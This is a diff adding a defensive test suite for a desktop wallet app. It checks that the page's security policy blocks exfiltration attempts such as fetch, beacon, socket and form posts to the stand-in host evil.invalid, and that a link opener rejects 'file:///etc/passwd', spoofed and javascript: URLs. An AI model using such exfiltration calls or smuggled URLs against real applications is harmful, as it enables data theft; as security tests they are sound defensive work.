@@ -1,0 +1,154 @@
+import { execFileSync } from 'node:child_process';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { ask, createWallet, handsOn, PASSWORD } from '../../build/desktop/hands.ts';
+import type { RunningApp } from '../../build/electron-stand-in/launch.ts';
+import { WINDOW_METHODS } from '../../core/api.ts';
+import { complaints, openStage, type Stage } from './support.ts';
+
+interface Fact {
+  readonly name: string;
+  readonly directive: string;
+}
+
+describe('what the page can and cannot do', () => {
+  let stage: Stage;
+  let app: RunningApp;
+  beforeAll(async () => {
+    stage = await openStage();
+    app = await stage.open({ userData: stage.folder() });
+    await createWallet(handsOn(app.page));
+  });
+  afterAll(() => stage.end());
+
+  /** Runs code in a timer of the page, where the page's policy counts, and says which directive was broken. */
+  const violation = (code: string): Promise<Fact> =>
+    app.page.evaluate(
+      (source) =>
+        new Promise<Fact>((done) => {
+          const listener = (event: SecurityPolicyViolationEvent): void => done({ name: 'blocked', directive: event.effectiveDirective });
+          document.addEventListener('securitypolicyviolation', listener, { once: true });
+          const attempts: Readonly<Record<string, () => unknown>> = {
+            // oxlint-disable-next-line no-eval -- what the policy must stop
+            eval: () => (0, eval)('1'),
+            script: () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.evil = 1' })),
+            remoteScript: () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.invalid/x.js' })),
+            fetch: () => fetch('https://evil.invalid/'),
+            ownFetch: () => fetch('/index.html'),
+            socket: () => new WebSocket('wss://evil.invalid'),
+            beacon: () => navigator.sendBeacon('https://evil.invalid/', 'x'),
+            image: () => Object.assign(new Image(), { src: 'https://evil.invalid/x.png' }),
+            frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.invalid/' })),
+            ownFrame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/index.html' })),
+            style: () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'body{color:red}' })),
+            html: () => (document.createElement('div').innerHTML = '<b>x</b>'),
+            object: () => document.body.append(Object.assign(document.createElement('object'), { data: 'https://evil.invalid/x' })),
+            base: () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.invalid/' })),
+            form: () => {
+              const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/', method: 'post' });
+              document.body.append(form);
+              form.submit();
+            },
+            worker: () => new Worker('https://evil.invalid/w.js'),
+          };
+          setTimeout(() => {
+            try {
+              void Promise.resolve(attempts[source]?.()).catch(() => undefined);
+            } catch {
+              // The event tells which directive it was.
+            }
+            setTimeout(() => done({ name: 'nothing was blocked', directive: '' }), 2000);
+          });
+        }),
+      code,
+    );
+
+  test.each([
+    ['eval', 'require-trusted-types-for'], ['script', 'require-trusted-types-for'], ['remoteScript', 'require-trusted-types-for'], ['fetch', 'connect-src'], ['ownFetch', 'connect-src'], ['socket', 'connect-src'], ['beacon', 'connect-src'],
+    ['image', 'img-src'], ['frame', 'frame-src'], ['ownFrame', 'frame-src'], ['style', 'style-src-elem'], ['html', 'require-trusted-types-for'], ['object', 'require-trusted-types-for'], ['base', 'base-uri'], ['form', 'form-action'], ['worker', 'require-trusted-types-for'],
+  ])('%s is stopped by %s', async (code, directive) => expect(await violation(code)).toEqual({ name: 'blocked', directive })); // prettier-ignore
+
+  test('the bridge is two frozen functions, and nothing of Node or Electron is there', async () => {
+    const found = await app.page.evaluate(() => {
+      const page = globalThis as unknown as Record<string, object>;
+      Reflect.set(page, 'sferic', 1);
+      return {
+        keys: Object.keys(page['sferic'] ?? {}),
+        isFrozen: Object.isFrozen(page['sferic']),
+        strange: ['require', 'process', 'module', 'global', 'Buffer', 'ipcRenderer', 'electron', 'standInTell', 'standInDeliver'].filter((name) => page[name] !== undefined),
+        isSecure: isSecureContext,
+      };
+    });
+    expect(found).toEqual({ keys: ['request', 'subscribe'], isFrozen: true, strange: [], isSecure: true });
+  });
+
+  test('no address but our own is ever shown, whatever the page tries', async () => {
+    const { page } = app;
+    const before = page.url();
+    await page.evaluate(() => {
+      window.open('https://evil.invalid/');
+      const link = Object.assign(document.createElement('a'), { href: 'https://evil.invalid/', target: '_blank', textContent: 'x' });
+      document.body.append(link);
+      link.click();
+      location.href = 'https://evil.invalid/';
+    });
+    await page.evaluate(() => new Promise((done) => setTimeout(done, 300)));
+    expect(page.url()).toBe(before);
+    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
+    if (app.kind === 'stand-in') expect(await app.evaluate(({ _log }) => _log.external)).toEqual([]);
+  });
+
+  test('every permission that a page can ask for is denied', async () => {
+    if (app.kind !== 'stand-in') return;
+    const granted = await app.evaluate(({ session }) => {
+      const answers: boolean[] = [];
+      for (const permission of ['media', 'clipboard-read', 'geolocation', 'notifications', 'openExternal']) session.defaultSession.permissionRequest?.({}, permission, (isGranted) => answers.push(isGranted));
+      return [...answers, session.defaultSession.permissionCheck?.()];
+    });
+    expect(granted).toEqual(Array(6).fill(false));
+  });
+
+  test('the window was made with the exact preferences', async () => {
+    if (app.kind !== 'stand-in') return;
+    const { preload, ...preferences } = (await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.options.webPreferences)) ?? {};
+    expect(preload).toMatch(/preload\.cjs$/u);
+    expect(preferences).toEqual({
+      sandbox: true, contextIsolation: true, nodeIntegration: false, nodeIntegrationInWorker: false, nodeIntegrationInSubFrames: false, webSecurity: true, allowRunningInsecureContent: false,
+      experimentalFeatures: false, webviewTag: false, navigateOnDragDrop: false, spellcheck: false, safeDialogs: true, devTools: false,
+    }); // prettier-ignore
+  });
+
+  test('each channel refuses what does not fit its schema, over the real bridge', async () => {
+    for (const method of WINDOW_METHODS) {
+      for (const params of ['text', 7, [], { nobodyKnowsThis: 1 }, { password: 'x'.repeat(300_000) }]) {
+        expect(await ask(app.page, method, params), method).toMatchObject({ ok: false, error: { code: 'bad_request' } });
+      }
+    }
+    await expect(ask(app.page, 'node.stop')).rejects.toThrow(/No handler registered/u);
+    await expect(ask(app.page, '../shell.state')).rejects.toThrow(/No handler registered/u);
+  });
+
+  test('the words come out only for the password, and a wrong one is told without a hint', async () => {
+    expect(await ask(app.page, 'vault.revealSeed', { password: `${PASSWORD} ` })).toMatchObject({ ok: false, error: { code: 'wrong_password' } });
+  });
+
+  test('only links of the list are opened', async () => {
+    for (const url of ['file:///etc/passwd', 'https://mempool.space@evil.invalid/', 'javascript:alert(1)']) expect(await ask(app.page, 'shell.openLink', { url })).toMatchObject({ ok: false });
+    if (app.kind !== 'stand-in') return;
+    expect(await ask(app.page, 'shell.openLink', { url: 'https://mempool.space/tx/ab' })).toMatchObject({ ok: true });
+    expect(await app.evaluate(({ _log }) => _log.external)).toEqual(['https://mempool.space/tx/ab']);
+  });
+
+  test('the main process listens nowhere', () => {
+    if (process.platform !== 'linux') return;
+    const sockets = execFileSync('ls', ['-l', `/proc/${app.pid}/fd`], { encoding: 'utf8' });
+    const inodes = new Set([...sockets.matchAll(/socket:\[(\d+)\]/gu)].map(([, inode]) => inode));
+    const tables = execFileSync('cat', [`/proc/${app.pid}/net/tcp`, `/proc/${app.pid}/net/tcp6`], { encoding: 'utf8' });
+    const LISTEN = '0A';
+    const own = tables.split('\n').map((line) => line.trim().split(/\s+/u)).filter((cells) => cells[3] === LISTEN && inodes.has(cells[9])); // prettier-ignore
+    expect(own).toEqual([]);
+  });
+
+  test('everything that was blocked stayed inside', async () => {
+    expect((await complaints(app)).filter((text) => text.startsWith('https://') && !text.includes('evil.invalid'))).toEqual([]);
+  });
+});
